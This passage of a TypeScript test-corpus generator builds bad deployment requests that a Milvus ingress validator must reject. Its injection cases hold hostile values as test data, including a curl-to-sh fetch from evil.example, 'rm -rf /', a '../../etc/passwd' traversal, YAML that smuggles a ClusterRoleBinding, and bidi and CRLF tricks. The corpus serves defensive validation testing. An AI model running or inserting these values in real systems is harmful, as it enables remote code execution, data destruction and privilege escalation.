    { case: "on-failure-unknown", category: "ports and options", tests: 'onFailure "rollback"', path: "onFailure", contains: "must be one of keep-ingress, remove-ingress", build: set(["onFailure"], "rollback") },
    { case: "wait-zero", category: "ports and options", tests: "waitForAddressMinutes 0", path: "waitForAddressMinutes", contains: "from 1 to 60", build: set(["waitForAddressMinutes"], 0) },
    { case: "wait-too-long", category: "ports and options", tests: "waitForAddressMinutes 61", path: "waitForAddressMinutes", contains: "from 1 to 60", build: set(["waitForAddressMinutes"], 61) },
    { case: "wait-fraction", category: "ports and options", tests: "waitForAddressMinutes 1.5", path: "waitForAddressMinutes", contains: "from 1 to 60", build: set(["waitForAddressMinutes"], 1.5) },
    { case: "hosted-zone-lowercase", category: "ports and options", tests: "ingress.route53HostedZoneId in lowercase", path: "ingress.route53HostedZoneId", contains: "Route 53 hosted zone id", build: set(["ingress", "route53HostedZoneId"], "z0123456789abcdefghij") },
    { case: "hosted-zone-path", category: "ports and options", tests: "ingress.route53HostedZoneId as /hostedzone/<id> (the API's path form)", path: "ingress.route53HostedZoneId", contains: "Route 53 hosted zone id", build: set(["ingress", "route53HostedZoneId"], "/hostedzone/Z0123456789ABCDEFGHIJ") },

    // --- annotations ------------------------------------------------------------------------------------------
    { case: "annotation-nginx-prefix", category: "annotations", tests: "an nginx annotation: only alb.ingress.kubernetes.io/* is accepted", path: "ingress.annotations.nginx.ingress.kubernetes.io/backend-protocol", contains: "only alb.ingress.kubernetes.io/* annotations", build: set(["ingress", "annotations", "nginx.ingress.kubernetes.io/backend-protocol"], "GRPC") },
    { case: "annotation-kubectl-last-applied", category: "annotations", tests: "kubectl's last-applied-configuration annotation", path: "ingress.annotations.kubectl.kubernetes.io/last-applied-configuration", contains: "only alb.ingress.kubernetes.io/* annotations", build: set(["ingress", "annotations", "kubectl.kubernetes.io/last-applied-configuration"], "{}") },
    { case: "annotation-reserved-certificate-arn", category: "annotations", tests: "certificate-arn is milvus-l7's", path: annotationPath("certificate-arn"), contains: "set certificate.arn / certificate.source instead", build: annotation("certificate-arn", "arn:aws:acm:us-east-2:123456789012:certificate/4f6b2c1e-8d3a-4b7e-9c5f-2a1d0e8b7c64") },
    { case: "annotation-reserved-backend-protocol-version", category: "annotations", tests: "backend-protocol-version HTTP2 would break gRPC", path: annotationPath("backend-protocol-version"), contains: "is set by milvus-l7 to GRPC", build: annotation("backend-protocol-version", "HTTP2") },
    { case: "annotation-reserved-target-type", category: "annotations", tests: "target-type instance would need the NodePort milvus-l7 removes", path: annotationPath("target-type"), contains: "is set by milvus-l7 to ip", build: annotation("target-type", "instance") },
    { case: "annotation-reserved-scheme", category: "annotations", tests: "scheme as an annotation instead of ingress.scheme", path: annotationPath("scheme"), contains: "set ingress.scheme instead", build: annotation("scheme", "internal") },
    { case: "annotation-create-acm-cert", category: "annotations", tests: "asking the controller to create an ACM certificate", path: annotationPath("create-acm-cert"), contains: "is not allowed", build: annotation("create-acm-cert", "true") },
    { case: "annotation-unknown-suffix", category: "annotations", tests: "a truncated annotation name (healthcheck-interval)", path: annotationPath("healthcheck-interval"), contains: "did you mean", build: annotation("healthcheck-interval", "10") },
    { case: "listen-ports-not-json", category: "annotations", tests: "listen-ports with unquoted keys", path: annotationPath("listen-ports"), contains: "it is not valid JSON", build: annotation("listen-ports", "[{HTTPS:443}]") },
    { case: "listen-ports-no-https", category: "annotations", tests: "listen-ports with HTTP only", path: annotationPath("listen-ports"), contains: "must include an HTTPS listener", build: annotation("listen-ports", '[{"HTTP":80}]') },
    { case: "listen-ports-out-of-range", category: "annotations", tests: "listen-ports with port 70000", path: annotationPath("listen-ports"), contains: "listen port must be an integer from 1 to 65535", build: annotation("listen-ports", '[{"HTTPS":70000}]') },
    { case: "ssl-redirect-to-http-port", category: "annotations", tests: "ssl-redirect to a port that is not an HTTPS listener", path: annotationPath("ssl-redirect"), contains: "must be one of the HTTPS ports in listen-ports", build: (r) => annotation("ssl-redirect", "80")(annotation("listen-ports", '[{"HTTP":80},{"HTTPS":443}]')(r)) },
    { case: "success-codes-http-200", category: "annotations", tests: "success-codes '200' on a GRPC target group (ELB refuses it only at deploy time)", path: annotationPath("success-codes"), contains: "gRPC status codes from 0 to 99", build: annotation("success-codes", "200") },
    { case: "healthcheck-path-http", category: "annotations", tests: "an HTTP health-check path on a GRPC target group", path: annotationPath("healthcheck-path"), contains: "must be a gRPC method path", build: annotation("healthcheck-path", "/healthz") },
    { case: "healthcheck-timeout-not-below-interval", category: "annotations", tests: "health-check timeout 10 s with an interval of 10 s", path: annotationPath("healthcheck-timeout-seconds"), contains: "must be less than healthcheck-interval-seconds", build: annotation("healthcheck-timeout-seconds", "10") },
    { case: "ssl-policy-legacy", category: "annotations", tests: "ELB's default policy, which still allows TLS 1.0", path: annotationPath("ssl-policy"), contains: "allows TLS 1.0/1.1", build: annotation("ssl-policy", "ELBSecurityPolicy-2016-08") },
    { case: "ssl-policy-unknown", category: "annotations", tests: "an ssl-policy that does not exist", path: annotationPath("ssl-policy"), contains: "must be an ELB security policy with TLS 1.2 or later", build: annotation("ssl-policy", "TLSv1.3") },
    { case: "idle-timeout-too-long", category: "annotations", tests: "idle timeout 5000 s (ALB allows 1-4000)", path: annotationPath("load-balancer-attributes"), contains: "idle_timeout.timeout_seconds must be an integer from 1 to 4000", build: annotation("load-balancer-attributes", "idle_timeout.timeout_seconds=5000") },
    { case: "idle-timeout-with-unit", category: "annotations", tests: "idle timeout written as 5m", path: annotationPath("load-balancer-attributes"), contains: "idle_timeout.timeout_seconds must be an integer", build: annotation("load-balancer-attributes", "idle_timeout.timeout_seconds=5m") },
    { case: "http2-disabled", category: "annotations", tests: "routing.http2.enabled=false (gRPC needs HTTP/2)", path: annotationPath("load-balancer-attributes"), contains: "gRPC, which needs HTTP/2", build: annotation("load-balancer-attributes", "routing.http2.enabled=false") },
    { case: "inbound-cidr-prefix-too-long", category: "annotations", tests: "inbound-cidrs 10.0.0.0/33", path: annotationPath("inbound-cidrs"), contains: '"10.0.0.0/33" is not one', build: annotation("inbound-cidrs", "10.0.0.0/33") },
    { case: "inbound-cidr-bad-octet", category: "annotations", tests: "inbound-cidrs with an octet over 255", path: annotationPath("inbound-cidrs"), contains: '"300.0.0.0/8" is not one', build: annotation("inbound-cidrs", "::/0,300.0.0.0/8") },
    { case: "inbound-cidr-no-prefix", category: "annotations", tests: "inbound-cidrs with a bare address", path: annotationPath("inbound-cidrs"), contains: "CIDR blocks", build: annotation("inbound-cidrs", "203.0.113.7") },

    // --- certificate ------------------------------------------------------------------------------------------
    { case: "arn-malformed", category: "certificate", tests: "certificate.arn whose id is not a UUID", path: "certificate.arn", contains: "must be an ACM certificate ARN", build: set(["certificate", "arn"], "arn:aws:acm:us-east-2:123456789012:certificate/milvus-demo") },
    { case: "arn-wrong-service", category: "certificate", tests: "an IAM server certificate ARN instead of ACM", path: "certificate.arn", contains: "must be an ACM certificate ARN", build: set(["certificate", "arn"], "arn:aws:iam::123456789012:server-certificate/milvus-demo") },
    { case: "arn-other-region", category: "certificate", tests: "an ACM certificate in us-west-2 for a cluster in us-east-2", path: "certificate.arn", contains: "is in us-west-2 but the cluster is in us-east-2", build: set(["certificate", "arn"], "arn:aws:acm:us-west-2:123456789012:certificate/4f6b2c1e-8d3a-4b7e-9c5f-2a1d0e8b7c64") },
    { case: "arn-and-source-missing", category: "certificate", tests: "certificate: {} (neither arn nor source)", path: "certificate", contains: "must have arn", build: set(["certificate"], {}) },
    { case: "source-both", category: "certificate", tests: "source with both secretsManager and s3", path: "certificate.source", contains: "must have exactly one of secretsManager, s3", build: set(["certificate", "source", "s3"], { bucket: "milvus-l7-certs" }) },
    { case: "source-empty", category: "certificate", tests: "source: {}", path: "certificate.source", contains: "must have exactly one of secretsManager, s3", build: set(["certificate", "source"], {}) },
    { case: "secret-id-space", category: "certificate", tests: "a secret name with a space", path: "certificate.source.secretsManager.secretId", contains: "must be a Secrets Manager secret name", build: set(["certificate", "source", "secretsManager", "secretId"], "milvus l7/tls") },
    { case: "secret-arn-bad-account", category: "certificate", tests: "a secret ARN with a 4-digit account", path: "certificate.source.secretsManager.secretId", contains: "must be a Secrets Manager secret ARN", build: set(["certificate", "source", "secretsManager", "secretId"], "arn:aws:secretsmanager:us-east-2:1234:secret:milvus-l7/tls-Qx7pZ2") },
    { case: "secret-id-too-long", category: "certificate", tests: "a secret name of 513 characters", path: "certificate.source.secretsManager.secretId", contains: "1-512", build: set(["certificate", "source", "secretsManager", "secretId"], "s".repeat(513)) },
    { case: "bucket-uppercase", category: "certificate", tests: "an S3 bucket name with uppercase letters and '_'", path: "certificate.source.s3.bucket", contains: "must be an S3 bucket name", build: s3Source({ bucket: "Milvus_Certs" }) },
    { case: "bucket-too-short", category: "certificate", tests: "an S3 bucket name of 2 characters", path: "certificate.source.s3.bucket", contains: "3-63", build: s3Source({ bucket: "ab" }) },
    { case: "bucket-ip-address", category: "certificate", tests: "an S3 bucket name shaped like an IP address", path: "certificate.source.s3.bucket", contains: "not an IP address", build: s3Source({ bucket: "192.168.10.20" }) },
    { case: "bucket-reserved-prefix", category: "certificate", tests: "an S3 bucket name with the reserved xn-- prefix", path: "certificate.source.s3.bucket", contains: "reserved by S3", build: s3Source({ bucket: "xn--milvus-certs" }) },
    { case: "s3-prefix-leading-slash", category: "certificate", tests: "an S3 prefix starting with '/'", path: "certificate.source.s3.prefix", contains: "must not start with '/'", build: s3Source({ prefix: "/live/milvus-demo/" }) },
    { case: "s3-prefix-traversal", category: "certificate", tests: "an S3 prefix with '..' (another team's folder)", path: "certificate.source.s3.prefix", contains: "without '..' segments", build: s3Source({ prefix: "live/../other-team/" }) },
    { case: "s3-certificate-key-empty", category: "certificate", tests: "an empty certificateKey", path: "certificate.source.s3.certificateKey", contains: "must not be empty", build: s3Source({ certificateKey: "" }) },
    { case: "s3-chain-key-traversal", category: "certificate", tests: "a chainKey climbing out of the prefix", path: "certificate.source.s3.chainKey", contains: "without '..' segments", build: s3Source({ chainKey: "../../etc/passwd" }) },
    { case: "s3-private-key-key-folder", category: "certificate", tests: "a privateKeyKey naming a folder", path: "certificate.source.s3.privateKeyKey", contains: "not ending in '/'", build: s3Source({ privateKeyKey: "keys/" }) },

    // --- injection --------------------------------------------------------------------------------------------
    { case: "inject-namespace-command-substitution", category: "injection", tests: "$(…) in milvus.namespace", path: "milvus.namespace", contains: "DNS-1123 label", build: set(["milvus", "namespace"], "$(curl -s https://evil.example/x | sh)") },
    { case: "inject-service-backticks", category: "injection", tests: "backticks in milvus.service", path: "milvus.service", contains: "DNS-1035 label", build: set(["milvus", "service"], "`id`") },
    { case: "inject-cluster-name-semicolon", category: "injection", tests: "'; rm -rf /' in cluster.name", path: "cluster.name", contains: "must be an EKS cluster name", build: set(["cluster", "name"], "milvus-eks; rm -rf /") },
    { case: "inject-ingress-name-yaml", category: "injection", tests: "a newline and YAML in ingress.name (a second document)", path: "ingress.name", contains: "must not contain control characters (found U+000A)", build: set(["ingress", "name"], "milvus-demo\n---\nkind: ClusterRoleBinding") },
    { case: "inject-host-null-byte", category: "injection", tests: "a NUL byte in ingress.host", path: "ingress.host", contains: "found U+0000", build: set(["ingress", "host"], `${HOST}\u0000.evil.example`) },
    { case: "inject-host-yaml-flow", category: "injection", tests: "YAML-breaking ': {' in ingress.host", path: "ingress.host", contains: "must be a DNS host name", build: set(["ingress", "host"], `${HOST}: {evil: true}`) },
    { case: "inject-host-bidi", category: "injection", tests: "a Unicode right-to-left override in ingress.host (Trojan Source)", path: "ingress.host", contains: "found U+202E", build: set(["ingress", "host"], "milvus\u202eoi.sulivm") },
    { case: "inject-service-line-separator", category: "injection", tests: "a Unicode line separator in milvus.service", path: "milvus.service", contains: "found U+2028", build: set(["milvus", "service"], "milvus\u2028demo") },
    { case: "inject-tags-command-substitution", category: "injection", tests: "$(…) in the tags annotation (AWS tags, i.e. labels on the ALB)", path: annotationPath("tags"), contains: "shell substitution", build: annotation("tags", "team=$(whoami)") },
    { case: "inject-tags-yaml", category: "injection", tests: "YAML-breaking ': {' in the tags annotation", path: annotationPath("tags"), contains: "key=value pairs", build: annotation("tags", "team: {admin: true}") },
    { case: "inject-tags-crlf", category: "injection", tests: "CR LF in an annotation value (header/log forging)", path: annotationPath("tags"), contains: "found U+000D", build: annotation("tags", "team=ml\r\nX-Injected: 1") },
    { case: "inject-tags-bidi", category: "injection", tests: "a bidi isolate in an annotation value", path: annotationPath("tags"), contains: "found U+2066", build: annotation("tags", "owner=\u2066admin\u2069") },
    { case: "inject-node-labels-backticks", category: "injection", tests: "backticks in the target-node-labels annotation", path: annotationPath("target-node-labels"), contains: "shell substitution", build: annotation("target-node-labels", "kubernetes.io/os=`reboot`") },
    { case: "inject-annotation-key-newline", category: "injection", tests: "a newline inside an annotation key (a second key smuggled in)", path: `${annotationPath("tags")}\\u000akubectl.kubernetes.io/last-applied-configuration`, contains: "field name must not contain control characters", build: set(["ingress", "annotations", `${A}tags\nkubectl.kubernetes.io/last-applied-configuration`], "x=y") },
    { case: "inject-secret-id-substitution", category: "injection", tests: "$(…) in the secret id", path: "certificate.source.secretsManager.secretId", contains: "must be a Secrets Manager secret name", build: set(["certificate", "source", "secretsManager", "secretId"], "milvus-l7/tls$(id)") },
    { case: "inject-s3-key-shell", category: "injection", tests: "'; rm -rf ~' in an S3 key", path: "certificate.source.s3.certificateKey", contains: "must be an S3 object name", build: s3Source({ certificateKey: "cert.pem; rm -rf ~" }) },

    // --- PEM material in the request --------------------------------------------------------------------------
    {
      case: "pem-key-in-secret-id",
      category: "PEM in request",
      tests: "a private key pasted (on one line) where the secret id goes",
      path: "certificate.source.secretsManager.secretId",
      contains: "looks like PEM material",
      pastedKey: pastedKeyFile,
      build: set(["certificate", "source", "secretsManager", "secretId"], oneLineKey),
    },
    {
      case: "pem-key-as-field",
      category: "PEM in request",
      tests: "certificate.privateKey holding the PEM key (multi-line)",
      path: "certificate.privateKey",
      contains: "looks like PEM material",
      pastedKey: pastedKeyFile,
      build: set(["certificate", "privateKey"], pastedKeyPem),
    },
    {
      case: "pem-certificate-as-arn",
      category: "PEM in request",
      tests: "the certificate PEM pasted into certificate.arn",
      path: "certificate.arn",
      contains: "looks like PEM material",
      build: set(["certificate", "arn"], certPem),
    },
    {
      case: "pem-key-in-annotation",
      category: "PEM in request",
      tests: "a private key (one line) in an annotation value",
      path: annotationPath("auth-idp-oidc"),
      contains: "looks like PEM material",
      pastedKey: pastedKeyFile,
      build: annotation("auth-idp-oidc", JSON.stringify({ issuer: "https://idp.example", clientSecret: oneLineKey })),
    },

    // --- size -------------------------------------------------------------------------------------------------
    {
      case: "oversized",
      category: "size",
      tests: "a request of ~70 KiB (the limit is 64 KiB of compact JSON)",
      path: "",
      contains: "a deployment request may be at most 65536",
      build: annotation("tags", Array.from({ length: 3000 }, (_, i) => `team-${String(i).padStart(4, "0")}=milvus-platform`).join(",")),
    },
  ];
}

// ===============================================================================================================

function writeFiles(dir: string, files: Files): void {
  rmSync(dir, { recursive: true, force: true });
  for (const [name, content] of Object.entries(files)) {
    const file = join(dir, name);
    mkdirSync(dirname(file), { recursive: true });
    writeFileSync(file, content);
  }
  mkdirSync(dir, { recursive: true });
}

async function main(): Promise<void> {
  const regenerate = process.argv.includes("--pem");
  const pemRoot = join(CORPUS, "pem");
  const pemCases: PemCase[] = [];
  const definitions = pemDefinitions();
  for (const { make, ...entry } of definitions) {
    const dir = join(pemRoot, entry.case);
    if (regenerate || !existsSync(dir)) {
      const started = Date.now();
      writeFiles(dir, await make());
      console.log(`pem/${entry.case}: generated in ${Date.now() - started} ms`);
    }
    pemCases.push({ ...entry, dir: `pem/${entry.case}` });
  }
  const known = new Set(definitions.map((d) => d.case));
  for (const stale of readdirSync(pemRoot).filter((d) => !known.has(d))) rmSync(join(pemRoot, stale), { recursive: true });

  const pastedKeyFile = "pem/host-not-covered/privkey.pem";
  const pastedKey = readFileSync(join(CORPUS, pastedKeyFile), "utf8");
  const certPem = readFileSync(join(CORPUS, "pem/host-not-covered/cert.pem"), "utf8");
  const base = JSON.parse(readFileSync(join(ROOT, "events/console-start.json"), "utf8")) as Req;
  const requestDir = join(CORPUS, "requests");
  rmSync(requestDir, { recursive: true, force: true });
  mkdirSync(requestDir, { recursive: true });
  const requestCases: RequestCase[] = [];
  for (const { build, ...entry } of requestDefinitions(pastedKeyFile, pastedKey, certPem)) {
    const file = `requests/${entry.case}.json`;
    const request = build(structuredClone(base));
    // Big and deeply nested requests stay compact; the rest are pretty-printed for people.
    const compact = ["deeply-nested", "oversized"].includes(entry.case);
    const text = compact ? JSON.stringify(request) : JSON.stringify(request, null, 2);
    writeFileSync(join(CORPUS, file), `${text}\n`);
    requestCases.push({ case: entry.case, category: entry.category, tests: entry.tests, file, path: entry.path, contains: entry.contains, ...(entry.pastedKey ? { pastedKey: entry.pastedKey } : {}) });
  }

  const index: CorpusIndex = {
    about:
      "Bad-input corpus (generated by scripts/make-bad-input.ts; see README.md). requests[]: each file must be rejected by validate, the API and ResolveRequest, naming `path` with a message containing `contains`. pem[]: each set, behind a valid request, must be rejected by ImportCertificate with `error` and a Cause containing `contains`. Nothing may be changed by any of them.",
    requests: requestCases,
    pem: pemCases,
  };
  writeFileSync(join(CORPUS, "cases.json"), `${JSON.stringify(index, null, 2)}\n`);
  console.log(`${requestCases.length} request cases, ${pemCases.length} PEM cases in ${CORPUS}`);
}

if (process.argv[1] && resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  await main();
}
